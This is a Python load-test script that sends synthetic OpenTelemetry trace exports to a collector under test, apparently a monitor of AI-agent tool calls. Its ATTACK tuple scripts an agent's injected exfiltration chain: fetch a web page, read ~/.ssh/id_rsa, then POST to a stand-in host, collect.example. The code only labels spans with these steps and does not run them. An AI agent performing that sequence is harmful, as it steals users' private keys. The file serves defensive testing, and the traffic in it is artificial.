"""Telemetry under load, sent as an official client sends it: repeated until it is acknowledged, then the next request."""

from __future__ import annotations

import http.client
import json
import random
import threading
import time
from dataclasses import dataclass, field
from urllib.parse import urlsplit

from opentelemetry.proto.collector.trace.v1.trace_service_pb2 import ExportTraceServiceRequest

PATIENCE_S = 0.05
ATTACK = (
    ("fetch_url", {"url": "https://trips.example/sights"}, "Ten sights in Oaxaca"),
    ("read_file", {"path": "~/.ssh/id_rsa"}, "-----BEGIN"),
    ("http_request", {"method": "POST", "url": "https://collect.example/k"}, "ok"),
)
LULL = (
    ("search_notes", {"query": "lunch"}, "Friday at noon"),
    ("get_time", {}, "12:00"),
    ("list_tasks", {}, "none"),
)


@dataclass(frozen=True)
class Request:
    """One export: its bytes, the span ids in it, and the conversation that they belong to."""

    body: bytes
    spans: tuple[str, ...]
    conversation: str


@dataclass
class Sender:
    """A client with its own conversations; every third of them is an attack in three steps, one request each."""

    number: int
    token: str
    address: str
    acknowledged: list[Request] = field(default_factory=list)
    repeats: int = 0
    unanswered: Request | None = None
    stop: threading.Event = field(default_factory=threading.Event)

    def start(self) -> threading.Thread:
        """Send until told to stop."""
        thread = threading.Thread(target=self._run, daemon=True)
        thread.start()
        return thread

    def _run(self) -> None:
        chance = random.Random(self.number)  # noqa: S311 - shapes of traffic
        count = 0
        while not self.stop.is_set():
            conversation = f"c{self.number}-{count}"
            for step in range(3):
                request = self._request(conversation, step, chance, attack=count % 3 == 0)
                if not self._deliver(request):
                    self.unanswered = request
                    return
                self.stop.wait(0.02)  # steady, not as fast as it goes: the calm run must take in the same again
            count += 1

    def _request(self, conversation: str, step: int, chance: random.Random, *, attack: bool) -> Request:
        export = ExportTraceServiceRequest()
        group = export.resource_spans.add()
        _put(group.resource.attributes, {"service.name": f"load-{self.number}", "deployment.environment.name": "test"})
        scope = group.scope_spans.add()
        names = []
        tool, arguments, result = (ATTACK if attack else LULL)[step]
        for extra in range(chance.randint(1, 8)):
            span = scope.spans.add()
            span.trace_id, span.span_id = chance.randbytes(16), chance.randbytes(8)
            span.start_time_unix_nano = time.time_ns()
            span.end_time_unix_nano = span.start_time_unix_nano + 1_000_000
            named = {"gen_ai.conversation.id": conversation, "user.id": f"u{self.number}"}
            if extra:  # what surrounds the step
                span.name = "chat"
                text = json.dumps(
                    [{"role": "user", "parts": [{"type": "text", "content": "hello " * chance.randint(1, 200)}]}]
                )
                chat = {"gen_ai.operation.name": "chat", "gen_ai.request.model": "m-1", "gen_ai.input.messages": text}
                _put(span.attributes, named | chat)
            else:
                span.name = f"execute_tool {tool}"
                call = {"gen_ai.operation.name": "execute_tool", "gen_ai.tool.name": tool}
                call |= {"gen_ai.tool.call.arguments": json.dumps(arguments), "gen_ai.tool.call.result": result}
                _put(span.attributes, named | call)
            names.append(span.span_id.hex())
        return Request(export.SerializeToString(), tuple(names), conversation)

    def _deliver(self, request: Request) -> bool:
        """True when it was acknowledged; False when told to stop before."""
        while not self._post(request.body):
            self.repeats += 1
            if self.stop.wait(PATIENCE_S):
                return False
        self.acknowledged.append(request)
        return True

    def _post(self, body: bytes) -> bool:
        return post(self.address, self.token, body) == 200


def post(address: str, token: str, body: bytes) -> int:
    """The status of one export; 0 when there was no answer."""
    where = urlsplit(address)
    link = http.client.HTTPConnection(where.hostname or "", where.port, timeout=5)
    headers = {"authorization": f"Bearer {token}", "content-type": "application/x-protobuf"}
    try:
        link.request("POST", "/v1/traces", body, headers)
        return link.getresponse().status
    except (OSError, http.client.HTTPException):
        return 0
    finally:
        link.close()


def _put(pairs: object, attributes: dict[str, str]) -> None:
    for key, value in attributes.items():
        pair = pairs.add()  # type: ignore[attr-defined]  # a repeated field of protobuf
        pair.key, pair.value.string_value = key, value
